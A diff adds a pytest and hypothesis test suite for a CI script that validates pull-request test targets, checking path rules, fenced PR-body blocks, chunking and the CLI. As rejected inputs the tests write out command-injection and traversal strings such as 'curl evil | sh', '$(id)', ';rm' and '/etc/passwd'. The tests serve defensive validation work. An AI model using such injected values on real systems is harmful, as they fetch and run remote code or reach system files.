@@ -1,0 +1,481 @@
+"""The scope validator: every rule, every bad input, both entry points, the CLI."""
+
+from __future__ import annotations
+
+import importlib.util
+import os
+import subprocess
+import sys
+from pathlib import Path
+from types import ModuleType
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+REPO = Path(__file__).resolve().parents[2]
+SCRIPT = REPO / "scripts" / "pr_checks" / "experimental_test_scope.py"
+TEMPLATE = REPO / ".github" / "pull_request_template.md"
+
+
+def _load(name: str) -> ModuleType:
+    if name not in sys.modules:
+        spec = importlib.util.spec_from_file_location(name, SCRIPT.parent / f"{name}.py")
+        assert spec is not None and spec.loader is not None
+        module = importlib.util.module_from_spec(spec)
+        sys.modules[name] = module
+        spec.loader.exec_module(module)
+    return sys.modules[name]
+
+
+ets = _load("experimental_test_scope")
+ScopeError = ets.ScopeError
+
+
+def errors_of(func, *args) -> str:  # type: ignore[no-untyped-def]
+    with pytest.raises(ScopeError) as info:
+        func(*args)
+    return str(info.value)
+
+
+def block(*lines: str, fence: str = "```") -> str:
+    return "\n".join([f"{fence}experimental-tests", *lines, fence])
+
+
+# --------------------------------------------------------------------------------------------
+# Targets
+
+
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("tests/gemm/test_x.py", ["tests/gemm/test_x.py"]),
+        ("tests/", ["tests/"]),
+        ("tests", ["tests"]),
+        ("tests/experimental/", ["tests/experimental/"]),
+        ("tests/a.py::test_b", ["tests/a.py::test_b"]),
+        ("tests/a.py::TestA::test_b", ["tests/a.py::TestA::test_b"]),
+        (
+            "  tests/a.py\ttests/b.py\n tests/c-d_e.py ",
+            ["tests/a.py", "tests/b.py", "tests/c-d_e.py"],
+        ),
+        ("tests/a.py tests/b.py tests/a.py", ["tests/a.py", "tests/b.py"]),
+        ("tests/sub/ tests/sub", ["tests/sub/"]),
+        ("tests/v1.2/test_x.py", ["tests/v1.2/test_x.py"]),
+    ],
+)
+def test_targets_accepted(text: str, expected: list[str]) -> None:
+    assert ets.parse_targets(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text, rule",
+    [
+        ("", "no targets given"),
+        ("   \t\n", "no targets given"),
+        ("-k", "starts with '-'"),
+        ("--collect-only", "starts with '-'"),
+        ("-ptests.evil", "starts with '-'"),
+        ("/etc/passwd", "absolute path"),
+        ("/work/main/tests/a.py", "absolute path"),
+        ("tests/../etc/passwd", "contains '..'"),
+        ("tests/experimental/..", "contains '..'"),
+        ("tests/a..py", "contains '..'"),
+        ("tests//a.py", "empty path component"),
+        ("tests/./a.py", "'.' path component"),
+        ("./tests/a.py", "not under tests/"),
+        ("testsuite/a.py", "not under tests/"),
+        ("benchmarks/bench.py", "not under tests/"),
+        ("please", "not under tests/"),
+        ("tests/a.py;rm", "shell metacharacter ';'"),
+        ("tests/a.py&&id", "shell metacharacter '&'"),
+        ("tests/a.py|sh", "shell metacharacter '|'"),
+        ("tests/a.py>out", "shell metacharacter '>'"),
+        ("tests/a.py<in", "shell metacharacter '<'"),
+        ("tests/$HOME", "shell metacharacter '$'"),
+        ("tests/${X}", "shell metacharacter"),
+        ("tests/a#b.py", "shell metacharacter '#'"),
+        ("tests/~/a.py", "shell metacharacter '~'"),
+        ("tests/a\\b.py", "shell metacharacter '\\\\'"),
+        ("tests/$(id).py", "command substitution '$('"),
+        ("`tests/a.py`", "backtick"),
+        ("tests/`id`.py", "backtick"),
+        ("'tests/a.py'", "quote"),
+        ('"tests/a.py"', "quote"),
+        ("tests/*.py", "glob character '*'"),
+        ("tests/test_?.py", "glob character '?'"),
+        ("tests/a.py::test_x[1-2]", "glob character"),
+        ("tests/a\u00a0b.py", "whitespace inside the target"),
+        ("tests/a\u2003b.py", "whitespace inside the target"),
+        ("tests/a\u200bb.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/é.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/ａ.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/a\x00.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/a\x1b[31m.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/a,b.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/a=b.py", "outside [A-Za-z0-9_./-]"),
+        ("tests/a::test_b", "only allowed after a .py file"),
+        ("tests/a.py:test_b", "':' outside a '::' test name"),
+        ("tests/a.py::", "test name ''"),
+        ("tests/a.py::1test", "test name '1test'"),
+        ("tests/a.py:::test", "test name ':test'"),
+    ],
+)
+def test_targets_rejected_with_named_rule(text: str, rule: str) -> None:
+    message = errors_of(ets.parse_targets, text)
+    assert rule in message
+    if text.strip():
+        assert "target " in message  # names the target
+
+
+def test_every_rejected_target_is_reported() -> None:
+    message = errors_of(ets.parse_targets, "tests/ok.py tests/a;b.py /abs tests/../x")
+    lines = message.splitlines()
+    assert len(lines) == 3
+    assert "'tests/a;b.py'" in lines[0] and "'/abs'" in lines[1] and "'tests/../x'" in lines[2]
+
+
+def test_seed_injection_example_is_rejected() -> None:
+    # A prefix check alone would accept this: it starts with the root and has no '..'.
+    message = errors_of(ets.parse_targets, "tests/experimental/x.py; curl evil | sh")
+    assert "shell metacharacter ';'" in message and "'|'" in message
+
+
+def test_root_is_configurable() -> None:
+    assert ets.validate_targets(["tests/experimental/a.py"], ets.BODY_ROOT)
+    assert "not under tests/experimental/" in errors_of(
+        ets.validate_targets, ["tests/a.py"], ets.BODY_ROOT
+    )
+    assert "not under tests/experimental/" in errors_of(
+        ets.validate_targets, ["tests/experimentalx/a.py"], ets.BODY_ROOT
+    )
+
+
+# --------------------------------------------------------------------------------------------
+# PR body
+
+
+def test_body_block_parsed_comments_stripped() -> None:
+    body = "\n".join(
+        [
+            "## Experimental Track",
+            "- [x] this PR touches the experimental track",
+            "",
+            "```experimental-tests",
+            "# a comment",
+            "tests/experimental/test_a.py   # trailing comment",
+            "",
+            "  tests/experimental/feature/  ",
+            "tests/experimental/test_a.py",
+            "```",
+            "after",
+        ]
+    )
+    assert ets.parse_body(body) == ["tests/experimental/test_a.py", "tests/experimental/feature/"]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        block("tests/experimental/test_a.py").replace("\n", "\r\n"),
+        block("tests/experimental/test_a.py", fence="~~~"),
+        block("tests/experimental/test_a.py", fence="````"),
+        "```  experimental-tests  \ntests/experimental/test_a.py\n```",
+        "   ```experimental-tests\ntests/experimental/test_a.py\n   ```",
+        # An example block inside a longer fence, a quote or an HTML comment is not a block.
+        "````markdown\n```experimental-tests\ntests/experimental/other.py\n```\n````\n"
+        + block("tests/experimental/test_a.py"),
+        "> ```experimental-tests\n> tests/experimental/other.py\n> ```\n\n"
+        + block("tests/experimental/test_a.py"),
+        "<!--\n```experimental-tests\ntests/experimental/other.py\n```\n-->\n"
+        + block("tests/experimental/test_a.py"),
+    ],
+)
+def test_body_block_variants(body: str) -> None:
+    assert ets.parse_body(body) == ["tests/experimental/test_a.py"]
+
+
+@pytest.mark.parametrize(
+    "body, rule",
+    [
+        ("", "no ```experimental-tests block found"),
+        ("just text\ntests/experimental/test_a.py", "no ```experimental-tests block found"),
+        ("```\ntests/experimental/test_a.py\n```", "no ```experimental-tests block found"),
+        ("```python\ntests/experimental/test_a.py\n```", "no ```experimental-tests block"),
+        ("```Experimental-Tests\ntests/experimental/a.py\n```", "no ```experimental-tests"),
+        ("`experimental-tests` tests/experimental/a.py", "no ```experimental-tests block"),
+        (block("tests/experimental/a.py") + "\n" + block("tests/experimental/b.py"), "2 ```"),
+        (block(), "is empty once # comments are removed"),
+        (block("# tests/experimental/a.py", "", "   # x"), "is empty once # comments"),
+        ("```experimental-tests\ntests/experimental/a.py\n", "is never closed"),
+        (block("tests/experimental/a.py tests/experimental/b.py"), "whitespace inside"),
+        (block("tests/gemm/test_x.py"), "not under tests/experimental/"),
+        (block("tests/experimental/a.py; curl evil | sh"), "shell metacharacter"),
+        (block("`tests/experimental/a.py`"), "backtick"),
+        (block("-k tests/experimental"), "whitespace inside"),
+        (block("--lf"), "starts with '-'"),
+        # A shorter fence does not close a longer one: it is read as a (bad) target.
+        ("````experimental-tests\ntests/experimental/a.py\n```\n````", "target '```'"),
+    ],
+)
+def test_body_rejected(body: str, rule: str) -> None:
+    message = errors_of(ets.parse_body, body)
+    assert rule in message
+    if "block" in rule or "empty" in rule:
+        assert "tests/experimental/" in message  # says how to fix the body
+
+
+def test_shipped_template_fails_loudly(capsys: pytest.CaptureFixture[str]) -> None:
+    if not TEMPLATE.exists():
+        pytest.skip("PR template not written yet")
+    code = ets.main(["--body-file", str(TEMPLATE), "--test-path"])
+    out, err = capsys.readouterr()
+    assert code == 2
+    assert out == ""
+    assert "is empty once # comments are removed" in err
+
+
+def test_template_with_an_example_uncommented_parses() -> None:
+    if not TEMPLATE.exists():
+        pytest.skip("PR template not written yet")
+    text = TEMPLATE.read_text(encoding="utf-8")
+    lines = text.splitlines()
+    for i, line in enumerate(lines):
+        if line.lstrip().startswith("# tests/experimental/"):
+            lines[i] = line.split("# ", 1)[1]
+            break
+    else:
+        pytest.fail("template has no commented example under tests/experimental/")
+    targets = ets.parse_body("\n".join(lines))
+    assert len(targets) == 1 and targets[0].startswith("tests/experimental/")
+
+
+# --------------------------------------------------------------------------------------------
+# Chunks
+
+
+def test_chunks_limit_and_boundaries() -> None:
+    exactly = "tests/" + "a" * 134
+    assert len(exactly) == 140
+    assert ets.chunk_targets([exactly]) == [exactly]
+    assert "longer than the 140-character" in errors_of(ets.chunk_targets, [exactly + "b"])
+    a, b = "tests/" + "a" * 63, "tests/" + "b" * 64  # 69 + 1 + 70 = 140: fits
+    assert ets.chunk_targets([a, b]) == [f"{a} {b}"]
+    b2 = b + "c"
+    assert ets.chunk_targets([a, b2]) == [a, b2]
+    assert ets.chunk_targets([]) == []
+
+
+def test_chunk_error_names_target_only_when_too_long() -> None:
+    long = "tests/" + "x" * 200
+    message = errors_of(ets.chunk_targets, ["tests/a.py", long])
+    assert repr(long) in message and "'tests/a.py'" not in message
+
+
+# --------------------------------------------------------------------------------------------
+# Existence
+
+
+@pytest.fixture
+def tree(tmp_path: Path) -> Path:
+    (tmp_path / "tests" / "experimental" / "feature").mkdir(parents=True)
+    (tmp_path / "tests" / "experimental" / "test_a.py").write_text("def test_x(): pass\n")
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "test_evil.py").write_text("")
+    return tmp_path
+
+
+def test_check_exists(tree: Path) -> None:
+    ets.check_exists(
+        ["tests/experimental/test_a.py", "tests/experimental/feature/", "tests/experimental"],
+        tree,
+        ets.BODY_ROOT,
+    )
+    ets.check_exists(["tests/experimental/test_a.py::test_x"], tree, ets.BODY_ROOT)
+    message = errors_of(
+        ets.check_exists,
+        ["tests/experimental/test_a.py", "tests/experimental/test_typo.py"],
+        tree,
+        ets.BODY_ROOT,
+    )
+    assert "'tests/experimental/test_typo.py': does not exist" in message
+    assert "test_a.py'" not in message
+
+
+@pytest.mark.skipif(os.name != "posix", reason="symlinks")
+def test_check_exists_rejects_symlink_escape(tree: Path) -> None:
+    (tree / "tests" / "experimental" / "link").symlink_to(tree / "outside")
+    message = errors_of(
+        ets.check_exists, ["tests/experimental/link/test_evil.py"], tree, ets.BODY_ROOT
+    )
+    assert "resolves outside tests/experimental/" in message
+
+
+# --------------------------------------------------------------------------------------------
+# CLI
+
+
+def run_main(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    code = ets.main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def test_cli_targets_modes(capsys: pytest.CaptureFixture[str]) -> None:
+    assert run_main(capsys, "--targets", "tests/a.py tests/b.py", "--test-path") == (
+        0,
+        "tests/a.py tests/b.py\n",
+        "",
+    )
+    many = " ".join(f"tests/experimental/feature_{i:02d}/test_case_{i:02d}.py" for i in range(9))
+    code, out, _ = run_main(capsys, "--targets", many, "--chunks")
+    assert code == 0
+    lines = out.splitlines()
+    assert len(lines) > 1 and all(len(line) <= 140 for line in lines)
+    assert " ".join(lines) == many
+
+
+def test_cli_body_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    body = tmp_path / "body.md"
+    body.write_text("text\n" + block("tests/experimental/test_a.py") + "\n")
+    assert run_main(capsys, "--body-file", str(body), "--test-path")[:2] == (
+        0,
+        "tests/experimental/test_a.py\n",
+    )
+    code, out, err = run_main(capsys, "--body-file", str(tmp_path / "missing.md"))
+    assert code == 2 and "cannot read --body-file" in err
+
+
+def test_cli_check_exists(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    ok = run_main(capsys, "--targets", "tests/experimental/test_a.py", "--check-exists", str(tree))
+    assert ok[0] == 0
+    code, out, err = run_main(
+        capsys, "--targets", "tests/experimental/nope.py", "--check-exists", str(tree)
+    )
+    assert (code, out) == (2, "") and "does not exist" in err
+
+
+def test_cli_exit_codes(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    code, out, err = run_main(capsys, "--targets", "tests/a.py; id")
+    assert (code, out) == (2, "") and "error: target 'tests/a.py;'" in err
+    assert run_main(capsys, "--chunks")[0] == 2  # usage error: no source
+    assert run_main(capsys, "--targets", "tests/a.py", "--chunks", "--test-path")[0] == 2
+
+    def boom(*_: object) -> None:
+        raise RuntimeError("bug")
+
+    monkeypatch.setattr(ets, "parse_targets", boom)
+    code, out, err = run_main(capsys, "--targets", "tests/a.py")
+    assert code == 1 and "internal error" in err
+
+
+def test_selftest_in_process() -> None:
+    assert ets.selftest() == []
+
+
+def test_selftest_subprocess() -> None:
+    proc = subprocess.run(
+        [sys.executable, str(SCRIPT), "--selftest"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=REPO,
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert "selftest: all cases pass" in proc.stdout
+
+
+def test_subprocess_exit_code_invalid() -> None:
+    proc = subprocess.run(
+        [sys.executable, str(SCRIPT), "--targets", "tests/$(id).py", "--test-path"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert proc.returncode == 2 and proc.stdout == ""
+    assert "command substitution" in proc.stderr
+
+
+def test_script_is_stdlib_only() -> None:
+    source = SCRIPT.read_text()
+    for line in source.splitlines():
+        if line.startswith(("import ", "from ")) and "__future__" not in line:
+            name = line.split()[1].split(".")[0]
+            assert name in sys.stdlib_module_names, line
+
+
+# --------------------------------------------------------------------------------------------
+# Properties
+
+ALLOWED = frozenset(ets._PATH_CHARS) | {":"}
+printable_junk = st.text(
+    alphabet=st.sampled_from(
+        list("abcXYZ019_-./:") + list(" \t;&|$`'\"*?[]()<>#~\\!{}\u00a0é\x00")
+    ),
+    max_size=30,
+)
+path_part = st.text(alphabet=st.sampled_from(list("abz09_-.")), min_size=1, max_size=12)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.one_of(printable_junk, st.builds(lambda s: "tests/" + s, printable_junk))))
+def test_property_accepted_targets_are_safe(tokens: list[str]) -> None:
+    for root in (ets.TARGETS_ROOT, ets.BODY_ROOT):
+        try:
+            targets = ets.validate_targets(tokens, root)
+        except ScopeError:
+            continue
+        for target in targets:
+            assert not target.startswith("-")
+            assert set(target) <= ALLOWED
+            path = target.partition("::")[0]
+            assert path == root.rstrip("/") or path.startswith(root)
+            # No escape: the normalised path stays under the root.
+            normal = os.path.normpath(path)
+            assert normal == root.rstrip("/") or normal.startswith(root)
+            assert ".." not in path.split("/")
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(
+        st.builds(
+            lambda parts: "tests/" + "/".join(parts), st.lists(path_part, min_size=1, max_size=12)
+        ),
+        min_size=1,
+        max_size=30,
+    )
+)
+def test_property_chunk_then_join_round_trips(targets: list[str]) -> None:
+    targets = [t for t in targets if len(t) <= 140]
+    if not targets:
+        return
+    chunks = ets.chunk_targets(targets)
+    assert all(0 < len(c) <= 140 for c in chunks)
+    assert " ".join(chunks).split(" ") == targets
+    # Split only between targets: every chunk is a whole run of targets.
+    assert [t for c in chunks for t in c.split(" ")] == targets
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.builds(
+            lambda parts: "tests/" + "/".join(parts), st.lists(path_part, min_size=1, max_size=5)
+        ),
+        min_size=1,
+        max_size=10,
+    )
+)
+def test_property_body_and_targets_agree(targets: list[str]) -> None:
+    """One definition of a safe target: the two entry points agree on the same paths."""
+    exp = [t.replace("tests/", "tests/experimental/", 1) for t in targets]
+    try:
+        from_targets = ets.parse_targets(" ".join(exp))
+    except ScopeError:
+        with pytest.raises(ScopeError):
+            ets.parse_body(block(*exp))
+        return
+    assert ets.parse_body(block(*exp)) == from_targets
